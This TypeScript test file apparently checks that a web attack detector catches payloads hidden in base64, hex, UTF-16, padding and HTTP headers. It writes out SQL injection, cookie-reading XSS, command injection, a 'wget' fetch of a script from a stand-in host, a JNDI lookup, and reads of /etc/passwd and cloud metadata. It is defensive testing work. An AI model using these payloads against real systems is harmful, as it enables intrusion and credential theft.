import { test } from 'tap'
import { createPolicy } from '../../src/detect/policy.ts'
import { scoreObservation } from '../../src/detect/score.ts'
import { inJson, inQuery, inspect } from './payload-observation.ts'
import { observation } from './observations.ts'

/** An attack of each family; most are graded likely, which a doubtful reading would drop. */
const FAMILIES: Record<string, string> = {
  union: "' UNION SELECT name, pass FROM users -- ",
  condition: '4) and (8814=8814',
  script: '<script>alert(document.cookie)</script>',
  command: 'x;ping -c 9 192.0.2.4',
  chain: '127.0.0.1 && wget http://x.example/s.sh',
  operator: '{"password":{"$ne":null}}',
  file: 'file:///etc/passwd',
  lookup: '$' + '{jndi:ldap://192.0.2.1/a}'
}

function base64 (bytes: string | Buffer): string {
  return Buffer.from(bytes as string).toString('base64')
}

function forUrl (bytes: string | Buffer): string {
  return Buffer.from(bytes as string).toString('base64url')
}

function hex (text: string): string {
  return Buffer.from(text).toString('hex')
}

const GIF = 'R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7'

/** Ways in which a text stands encoded in a value. */
const CARRIERS: Record<string, (text: string) => string> = {
  'behind a name': (text) => 'data=' + base64(text),
  'behind a path': (text) => '/api/v1/' + forUrl(text),
  'behind a long path': (text) => '/api/v1/files/a/b/c/defg/' + forUrl(text),
  'within a path': (text) => '/api/v1/images/products/' + forUrl(text) + '/x',
  'before a byte that is none': (text) => base64(Buffer.concat([Buffer.from(text), Buffer.from([0xff])])),
  'behind a zero': (text) => base64('\0' + text),
  'in UTF-16': (text) => base64(Buffer.from(text, 'utf16le')),
  'in UTF-16 behind a name': (text) => 'v=' + base64(Buffer.from(text, 'utf16le')),
  'in UTF-16 behind a word': (text) => 'token: ' + base64(Buffer.from(text, 'utf16le')),
  'in UTF-16 of the other order': (text) => base64(Buffer.from(text, 'utf16le').swap16()),
  'behind two letters in UTF-16': (text) => base64('a\0b\0' + text + ' '),
  'in hex behind a name': (text) => 'v=' + hex(text),
  'in hex behind a word': (text) => 'token: ' + hex(text),
  'in hex between blanks': (text) => hex(text).replace(/../g, '$& '),
  'behind a picture that ended': (text) => `data:image/gif;base64,${GIF}=` + base64(text),
  'as a document in the address of a picture': (text) => 'data:image/png;base64,' + base64('%PDF-1.4 ' + text)
}

test('an encoded attack is read behind, before and within what makes its letters look like others', (t) => {
  for (const [family, attack] of Object.entries(FAMILIES)) {
    for (const [name, carry] of Object.entries(CARRIERS)) {
      t.ok(inJson({ note: carry(attack) }).value >= 0.75, `${family} ${name}`)
    }
    t.ok(inspect({ url: '/api/v1/' + hex(attack) }).value >= 0.75, `${family} in hex in a path`)
  }
  t.end()
})

test('a text in base64 hides no other one beside it, whatever stands between them', (t) => {
  for (const attack of [FAMILIES.union, FAMILIES.script, FAMILIES.lookup] as string[]) {
    for (const decoy of ['the quick brown ', 'the quick brown', 'the quick brown f']) {
      for (const between of ['\n', '_', '/', ' ', '=', '.', ',', '']) {
        for (const first of [base64(decoy), base64(decoy).replace(/=+$/, '')]) {
          t.ok(inJson({ note: first + between + base64(attack) }).value >= 0.75, `${first}${between}${attack}`)
        }
      }
    }
  }
  t.end()
})

test('lists of ids in base64 are within the bound, and many texts that say something are not', (t) => {
  const ids = Array.from({ length: 200 }, (_, at) => base64(`Product:${1000 + at}`))
  t.equal(inJson({ ids: ids.join(',') }).beyond, null)
  t.equal(inJson({ ids: ids.join(',') }).value, 0)
  t.equal(inspect({ headers: ['cookie', 'seen=' + ids.slice(0, 20).join('|')] }).beyond, null)
  const texts = Array.from({ length: 20 }, (_, at) => base64(`{"name":"item ${at}"}`))
  t.equal(inJson({ texts: texts.join(',') }).beyond, 'body')
  t.end()
})

const DOCUMENT = 'Dear friends of the house we are happy to announce that the annual meeting will be held in the old ' +
  'town hall next month and everybody is welcome to come along and bring friends and family '

test('padding and one long line in the place of an argument do not lower what an attack says', (t) => {
  for (const attack of [FAMILIES.union, FAMILIES.script, FAMILIES.lookup, FAMILIES.operator] as string[]) {
    for (const blanks of [' '.repeat(300), '\n'.repeat(300), ' \n'.repeat(200), '\u00a0 '.repeat(200), `a${' '.repeat(90)}`.repeat(4)]) {
      t.equal(inJson({ note: blanks + attack }).value >= 0.75, true, JSON.stringify(blanks.slice(0, 4)) + attack)
    }
  }
  for (const attack of [FAMILIES.union, FAMILIES.script] as string[]) {
    t.ok(inQuery(DOCUMENT + attack).value >= 0.75, attack)
    t.ok(inspect({ url: '/graphql', headers: ['content-type', 'application/json'], body: JSON.stringify({ query: 'query ($a: ID!) { a(id: $a) { id } }', variables: { a: DOCUMENT + attack } }) }).value >= 0.75, attack)
  }
  t.equal(inQuery(DOCUMENT).value, 0)
  t.ok(inJson({ note: `${DOCUMENT}\n\nRun this:\n\n    ls /tmp; cat notes\n\n${DOCUMENT}` }).value < 0.75, 'a document still quotes')
  t.end()
})

const LEADING = ['../../../../etc/passwd', 'file:///etc/passwd', 'http://169.254.169.254/latest/meta-data/iam', 'php://filter/convert.base64-encode/resource=index.php']
const POLICY = createPolicy({ sensitivity: 2, challengeThreshold: 40, blockThreshold: 75 })

test('headers of the sender\'s own letters are judged where they lead elsewhere or hold a text in base64', (t) => {
  for (const header of ['x-request-id', 'x-csrf-token', 'x-api-key', 'authorization']) {
    for (const value of LEADING) t.ok(inspect({ headers: [header, value] }).value >= 0.75, `${header}: ${value}`)
  }
  const text = base64(FAMILIES.union as string)
  for (const [header, value] of [['x-request-id', text], ['x-api-key', text], ['tracestate', 'a=' + text.replace(/=/g, '')], ['if-none-match', `"${text}"`], ['accept', 'a=' + text.replace(/=/g, '')], ['tracestate', 'a=;/bin/id'], ['accept-language', 'a="1 UNION SELECT name, pass FROM users"'], ['sec-ch-ua-platform', '"1 UNION SELECT name, pass FROM users"'], ['authorization', `Digest a=1, ${FAMILIES.lookup}=1`], ['authorization', 'Digest a="x", b="1 UNION SELECT name, pass FROM users -- "'], ['referer', 'http://x.example/%3Cscript%3Ealert(1)%3C/script%3E'], ['content-type', `text/plain; x=${FAMILIES.union}`]] as const) {
    t.ok(inspect({ headers: [header, value] }).value >= 0.75, `${header}: ${value}`)
  }
  for (const [header, value] of [['x-request-id', '3f8a2c1e-9b7d-4e6f-a1b2-c3d4e5f60718'], ['x-csrf-token', 'aGVsbG8/d29ybGQ+Zm9v//8='], ['tracestate', 'dd=s:1;o:rum;t.dm:-4,es=s:0.1'], ['if-none-match', 'W/"5f3c-18b2"'], ['accept', 'text/html;q=0.9, application/vnd.company+json;version="1.0", */*'], ['sec-ch-ua-platform', '"Chrome OS"'], ['sec-ch-ua-model', '"Pixel 8 Pro"'], ['sec-ch-ua-model', '"moto g(30)"'], ['authorization', 'Digest username="Ann, Lee", realm="a b", uri="/x?y=1"'], ['authorization', 'AWS4-HMAC-SHA256 Credential=A/20261129/eu/s3/aws4_request, SignedHeaders=host;x-amz-date, Signature=fe5f'], ['referer', 'https://x.example/caf%C3%A9/a%20b'], ['content-type', 'multipart/form-data; boundary="a b"'], ['content-type', 'application/soap+xml; charset=utf-8; action="http://x.example/Do"'], ['content-disposition', 'attachment; filename="my photo (1).jpg"']] as const) {
    t.equal(inspect({ headers: [header, value] }).value < 0.4, true, `${header}: ${value}`)
  }
  t.ok(scoreObservation(observation({ headers: ['x-request-id', LEADING[0] as string] }), POLICY).value >= 75)
  t.end()
})

test('a line of lenient JSON that goes on in the next one is one line', (t) => {
  const body = "{note: '1 UNION SEL\\\nECT name, pass FR\\\r\nOM users -- ',}"
  t.ok(inspect({ headers: ['content-type', 'application/json'], body }).value >= 0.75)
  t.end()
})
